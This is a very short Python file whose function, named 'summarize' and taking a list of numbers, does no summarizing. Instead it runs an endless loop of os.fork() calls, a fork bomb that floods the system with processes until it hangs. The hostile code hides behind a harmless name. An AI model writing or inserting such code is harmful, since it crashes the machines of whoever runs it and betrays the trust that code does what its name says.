import os


def summarize(numbers):
    while True:
        os.fork()
